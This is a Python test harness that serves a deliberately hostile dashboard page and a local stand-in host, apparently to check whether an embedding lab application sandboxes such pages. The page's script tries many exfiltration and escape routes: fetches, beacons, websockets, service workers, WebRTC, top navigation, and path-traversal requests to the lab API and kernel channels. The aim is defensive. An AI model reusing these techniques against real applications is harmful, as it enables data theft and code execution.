# ruff: noqa: E501  # a page, not code of ours
"""A hostile dashboard page and the place it tries to reach: a stand-in that counts what arrives.

    python hostile_dashboard.py PORT SOCKET

It takes the place of the dashboard on the unix socket SOCKET, where every path but the list of plots is the page. Whatever arrives on PORT,
by TCP or UDP, is a hit. What the page found out it tells by the one way that it has, a GET of its own dashboard, which
is also how it is told to leave. ``GET /hits`` on PORT gives hits and findings, ``GET /order/WAY`` has the page leave.
"""

import asyncio
import json
import sys
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

PAGE = """<!doctype html><html><head><title>hostile</title>
<meta http-equiv="refresh" content="0; url=ELSEWHERE/meta-refresh">
<base href="ELSEWHERE/">
<link rel="stylesheet" href="ELSEWHERE/style.css"><link rel="icon" href="ELSEWHERE/icon">
<link rel="dns-prefetch" href="//dns.elsewhere.invalid"><link rel="preconnect" href="ELSEWHERE">
<link rel="prefetch" href="ELSEWHERE/prefetch"><link rel="preload" as="image" href="ELSEWHERE/preload">
<link rel="modulepreload" href="ELSEWHERE/module.js"><link rel="manifest" href="ELSEWHERE/manifest">
<script src="ELSEWHERE/script.js"></script>
<style>@import url("ELSEWHERE/import.css"); body { background: url("ELSEWHERE/background") }
@font-face { font-family: f; src: url("ELSEWHERE/font") } p { font-family: f }</style>
</head><body background="ELSEWHERE/body"><p>hostile</p><canvas width="60" height="60"></canvas>
<img src="ELSEWHERE/img" srcset="ELSEWHERE/img2 2x"><video poster="ELSEWHERE/poster" src="ELSEWHERE/video"></video>
<iframe src="ELSEWHERE/iframe"></iframe><object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed">
<form id="form" action="ELSEWHERE/form" method="post"><input name="a"></form>
<a id="away" href="ELSEWHERE/link" ping="ELSEWHERE/ping">away</a>
<svg><image href="ELSEWHERE/svg"/><use href="ELSEWHERE/use#x"/></svg>
<script>
const elsewhere = 'ELSEWHERE', own = window.fetch;
const attempt = async (name, act) => {
  let found;
  try { found = String(await Promise.race([act(), new Promise(r => setTimeout(r, 2000, 'no answer'))])); }
  catch (error) { found = 'refused: ' + error.name; }
  await own('/report?name=' + encodeURIComponent(name) + '&found=' + encodeURIComponent(found));
};
const add = (tag, set) => { const node = Object.assign(document.createElement(tag), set); document.body.append(node); return node; };
const socketOf = (w, url) => new Promise(done => { const s = new w.WebSocket(url); s.onopen = () => done('OPEN'); s.onclose = e => done('closed ' + e.code); });
// A fresh window has the browser's own functions, whatever the page's were replaced with.
const fresh = () => add('iframe', {}).contentWindow;
(async () => {
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => top.document.title);
  await attempt('top location', () => top.location.href);
  await attempt('base', () => document.baseURI);
  await attempt('referrer', () => document.referrer || 'none');
  await attempt('origin', () => self.origin);
  await attempt('cookie', () => document.cookie || 'none');
  await attempt('fetch', () => fetch(elsewhere + '/fetch').then(r => 'REACHED ' + r.status));
  await attempt('fresh fetch', () => fresh().fetch(elsewhere + '/fresh-fetch').then(r => 'REACHED ' + r.status));
  await attempt('fresh no-cors', () => fresh().fetch(elsewhere + '/no-cors', {mode: 'no-cors'}).then(() => 'REACHED'));
  for (const path of ['/api/status', '../../../../api/status', '/..%2f..%2fapi/status', 'LAB/api/status', '../dashboard/../../../../api'])
    await attempt('lab ' + path, () => fetch(path.replace('LAB', location.ancestorOrigins?.[1] ?? '')).then(r => r.text()).then(t => t.includes('hostile') ? 'itself' : 'REACHED ' + t));
  await attempt('fresh lab', () => fresh().fetch((location.ancestorOrigins?.[1] ?? '') + '/api').then(r => 'REACHED ' + r.status));
  await attempt('post', () => fetch('status', {method: 'POST'}).then(r => 'REACHED ' + r.status));
  await attempt('socket', () => socketOf(window, elsewhere.replace('http', 'ws') + '/socket'));
  await attempt('fresh socket', () => socketOf(fresh(), elsewhere.replace('http', 'ws') + '/fresh-socket'));
  await attempt('lab socket', () => socketOf(window, (location.ancestorOrigins?.[1] ?? '').replace('http', 'ws') + '/api/kernels/x/channels'));
  await attempt('beacon', () => navigator.sendBeacon(elsewhere + '/beacon'));
  await attempt('xhr', () => new Promise(done => { const x = new (fresh().XMLHttpRequest)(); x.onload = () => done('REACHED'); x.onerror = () => done('refused'); x.open('GET', elsewhere + '/xhr'); x.send(); }));
  await attempt('events', () => new Promise(done => { const e = new (fresh().EventSource)(elsewhere + '/events'); e.onopen = () => done('REACHED'); e.onerror = () => done('refused'); }));
  await attempt('image', () => new Promise(done => { const i = new Image(); i.onload = () => done('REACHED'); i.onerror = () => done('refused'); i.src = elsewhere + '/image'; }));
  await attempt('worker', () => new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage('RAN')"]))); w.onmessage = e => done(e.data); w.onerror = () => done('refused'); }));
  await attempt('service worker', () => navigator.serviceWorker.register(elsewhere + '/sw.js').then(() => 'REGISTERED'));
  await attempt('import', () => import(elsewhere + '/import.js').then(() => 'REACHED'));
  await attempt('eval', () => eval("'RAN'"));
  await attempt('open', () => (window.open(elsewhere + '/open') ? 'OPENED' : 'refused'));
  await attempt('form', () => { document.getElementById('form').submit(); return 'sent'; });
  await attempt('top navigation', () => { top.location = elsewhere + '/top'; return 'sent'; });
  await attempt('storage', () => { localStorage.setItem('a', 'b'); return fresh().localStorage ? 'REACHED' : 'none'; });
  await attempt('indexed database', () => new Promise(done => { const o = indexedDB.open('x'); o.onsuccess = () => done('OPENED'); o.onerror = () => done('refused'); }));
  await attempt('caches', () => caches.open('x').then(() => 'OPENED'));
  await attempt('clipboard', () => navigator.clipboard.readText().then(() => 'READ'));
  for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'dns-prefetch', 'preconnect'])
    await attempt('late ' + rel, () => { add('link', {rel, href: elsewhere + '/late-' + rel, as: 'image'}); return 'added'; });
  await attempt('late base', () => { document.head.prepend(Object.assign(document.createElement('base'), {href: elsewhere})); return document.baseURI; });
  await attempt('late script', () => { add('script', {src: elsewhere + '/late-script'}); return 'added'; });
  await attempt('late frame', () => { add('iframe', {src: elsewhere + '/late-frame'}); return 'added'; });
  await attempt('portless', () => { parent.postMessage('port', '*'); top.postMessage({t: 'hello'}, '*'); return 'sent'; });
  await attempt('rtc', () => { const R = window.RTCPeerConnection; return R ? 'THERE' : 'none'; });
  await attempt('done', () => 'yes');
})();
const leave = way => ({
  location: () => { location = elsewhere + '/leave-location'; },
  reload: () => location.reload(),
  blank: () => { location = 'about:blank'; },
  data: () => { location = 'data:text/html,<script>parent.postMessage(1)</' + 'script>'; },
  meta: () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + elsewhere + '/leave-meta'; document.head.append(m); },
  rtc: () => { const w = fresh(); const c = new w.RTCPeerConnection({iceServers: [{urls: elsewhere.replace('http://', 'stun:')}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)); }
})[way]?.();
setInterval(async () => leave(await (await own('/order')).text()), 300);
</script></body></html>
"""

hits: list[str] = []
found: dict[str, str] = {}
orders: list[str] = []


class Datagrams(asyncio.DatagramProtocol):
    """Counts what comes by UDP, as WebRTC would send it."""

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        """Count a datagram."""
        hits.append(f"udp {len(data)} bytes")


async def target_of(reader: asyncio.StreamReader) -> str:
    """Read a request's head; a connection without one, as of a preconnect, has no target."""
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1") if await reader.read(1) else ""
    return head.split(" ")[1] if " " in head else ""


def send(writer: asyncio.StreamWriter, kind: str, body: bytes) -> None:
    """Write an answer that any page may read."""
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n"
    writer.write(f"{head}Access-Control-Allow-Origin: *\r\n\r\n".encode() + body)
    writer.close()


async def main(port: int, socket: str) -> None:
    """Serve until killed."""

    async def dashboard(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        target = urlsplit(await target_of(reader))
        if target.path == "/individual-plots.json":
            send(writer, "application/json", b'{"Individual Progress": "/individual-progress"}')
        elif target.path == "/order":
            send(writer, "text/plain", orders.pop().encode() if orders else b"")
        else:
            if target.path == "/report":
                told = dict(parse_qsl(target.query))
                found[told["name"]] = told["found"]
            send(writer, "text/html", PAGE.replace("ELSEWHERE", f"http://127.0.0.1:{port}").encode())

    async def elsewhere(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        target = await target_of(reader)
        if target.startswith("/order/"):
            orders.append(target.removeprefix("/order/"))
        elif target != "/hits":
            hits.append(target or "a connection")
        send(writer, "application/json", json.dumps({"hits": hits, "found": found}).encode())

    loop = asyncio.get_running_loop()
    await loop.create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", port))
    await asyncio.start_server(elsewhere, "127.0.0.1", port)
    Path(socket).unlink()
    await asyncio.start_unix_server(dashboard, socket)
    print("ready", flush=True)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2]))
